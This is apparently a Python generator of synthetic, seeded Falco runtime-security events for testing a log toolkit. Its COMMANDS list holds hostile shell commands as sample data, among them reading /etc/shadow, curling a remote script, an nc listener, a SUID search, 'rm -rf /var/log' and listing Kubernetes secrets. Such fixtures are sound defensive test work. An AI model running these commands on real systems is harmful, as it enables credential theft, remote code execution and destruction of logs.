"""A made-up month of Falco events: seeded, so every run asks the same of the same data.

Half of the events are text lines, as Falco prints them, half JSON lines, as Falco with
``json_output`` does. Rules follow a long-tailed distribution, times a working day; a few percent
come in bursts.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from itertools import chain

import numpy as np

from toolkit.engine.store import StreamBatch

SECOND = 1_000_000_000
DAY = 86_400 * SECOND
DAYS = 28
END = int(datetime(2026, 11, 2, tzinfo=UTC).timestamp()) * SECOND
START = END - DAYS * DAY

PRIORITIES = ("Critical", "Error", "Warning", "Notice", "Informational")
NODES = tuple(f"worker-{letter}.example.org" for letter in "abcde")
NAMESPACES = ("default", "kube-system", "payments", "shop")
IMAGES = tuple(f"registry.example.org/{name}" for name in (
    "api", "web", "worker", "cron", "nginx", "redis", "postgres", "builder", "runner", "debug",
    "proxy", "mailer", "search", "batch", "exporter", "agent", "gateway", "auth", "cache", "queue",
))  # fmt: skip
USERS = ("root", "alice", "bob", "www-data", "postgres", "nobody", "deploy", "backup")
COMMANDS = (
    "bash -i",
    "cat /etc/shadow",
    "curl -s http://203.0.113.7/x.sh",
    "apt-get install -y nmap",
    "nc -lvp 4444",
    "find / -perm -4000",
    "chmod +s /tmp/x",
    "python3 -c import os",
    "rm -rf /var/log",
    "kubectl get secrets -A",
)
RULES = tuple(
    f"{verb} {thing}"
    for verb in ("Read", "Write below", "Launch", "Redirect", "Modify", "Contact")
    for thing in (
        "sensitive file untrusted", "root", "shell in container", "package management process",
        "binary dirs", "K8s API server from container", "rpm database", "network tool in container",
        "docker client", "log files",
    )
)  # fmt: skip
PODS = 2  # of each namespace


def batches(events: int, seed: int = 7, days: int = DAYS) -> Iterator[StreamBatch]:
    """The events of :func:`slices`, one slice after the other."""
    return chain.from_iterable(slices(events, seed, days))


def slices(events: int, seed: int = 7, days: int = DAYS) -> Iterator[Iterator[StreamBatch]]:
    """The events of the ``days`` before :data:`END`, a few hundred thousand at a time.

    Slices follow one another in time; a slice comes stream by stream, each in order of time.
    """
    begin = END - days * DAY
    rng = np.random.default_rng(seed)
    slice_size = 250_000
    for first in range(0, events, slice_size):
        count = min(slice_size, events - first)
        span = (
            begin + days * DAY * first // events,
            begin + days * DAY * (first + count) // events,
        )
        yield _slice(rng, count, *span)


def _slice(rng: np.random.Generator, count: int, start: int, end: int) -> Iterator[StreamBatch]:
    times = np.sort(rng.integers(start, end, count))
    weight = 1.0 / np.arange(1, len(RULES) + 1)
    rule = rng.choice(len(RULES), count, p=weight / weight.sum())
    node, namespace = rng.integers(0, len(NODES), count), rng.integers(0, len(NAMESPACES), count)
    pod = rng.integers(0, PODS, count)
    in_json = rng.random(count) < 0.5
    stream = (((rule * len(NODES) + node) * len(NAMESPACES) + namespace) * PODS + pod) * 2 + in_json
    user, command = rng.integers(0, len(USERS), count), rng.integers(0, len(COMMANDS), count)
    image, port = rng.integers(0, len(IMAGES), count), rng.integers(1024, 65536, count)
    container = rng.integers(0, 16**12, count)
    order = np.lexsort((times, stream))
    bounds = np.flatnonzero(np.diff(stream[order], prepend=-1, append=-1))
    columns = [c.tolist() for c in (times, user, command, image, port, container)]
    for low, high in zip(bounds[:-1].tolist(), bounds[1:].tolist(), strict=True):
        rows = order[low:high].tolist()
        at = rows[0]
        names = (RULES[rule[at]], PRIORITIES[rule[at] % 5], NODES[node[at]],
                 NAMESPACES[namespace[at]], f"pod-{pod[at]}")  # fmt: skip
        write = _json_line if in_json[at] else _text_line
        yield StreamBatch(
            _labels(*names, "json" if in_json[at] else "text"),
            [columns[0][row] for row in rows],
            [write(names, *(column[row] for column in columns)) for row in rows],
        )


def _labels(
    rule: str, priority: str, node: str, namespace: str, pod: str, form: str
) -> dict[str, str]:
    return {
        "source": "syscall", "rule": rule, "priority": priority, "hostname": node,
        "k8s_ns_name": namespace, "k8s_pod_name": pod, "format": form,
        "tags": "T1059,container,maturity_stable,mitre_execution",
    }  # fmt: skip


def _text_line(
    names: tuple[str, ...], time: int, user: int, command: int, image: int, port: int, cid: int
) -> str:
    rule, priority, _, namespace, pod = names
    seconds, rest = divmod(time, SECOND)
    clock = f"{seconds // 3600 % 24:02d}:{seconds // 60 % 60:02d}:{seconds % 60:02d}.{rest:09d}"
    return (
        f"{clock}: {priority} {rule} detected | evt_type=execve user={USERS[user]} "
        f"user_uid={user * 1000} process={COMMANDS[command].split()[0]} "
        f"command={COMMANDS[command]} container_id={cid:012x} "
        f"container_image={IMAGES[image]} connection=10.42.{port % 256}.17:{port} "
        f"k8s_ns={namespace} k8s_pod={pod}"
    )


def _json_line(
    names: tuple[str, ...], time: int, user: int, command: int, image: int, port: int, cid: int
) -> str:
    rule, priority, node, namespace, pod = names
    output = _text_line(names, time, user, command, image, port, cid)
    when = datetime.fromtimestamp(time // SECOND, UTC).strftime("%Y-%m-%dT%H:%M:%S")
    return json.dumps(
        {
            "uuid": f"{cid:012x}-{port:04x}",
            "output": output,
            "priority": priority,
            "rule": rule,
            "time": f"{when}.{time % SECOND:09d}Z",
            "output_fields": {
                "container.id": f"{cid:012x}",
                "container.image.repository": IMAGES[image],
                "evt.time": time,
                "evt.type": "execve",
                "fd.rip": f"10.42.{port % 256}.17",
                "fd.rport": port,
                "k8s.ns.name": namespace,
                "k8s.pod.name": pod,
                "proc.cmdline": COMMANDS[command],
                "user.name": USERS[user],
                "user.uid": user * 1000,
            },
            "source": "syscall",
            "tags": ["T1059", "container", "maturity_stable", "mitre_execution"],
            "hostname": node,
        }
    )
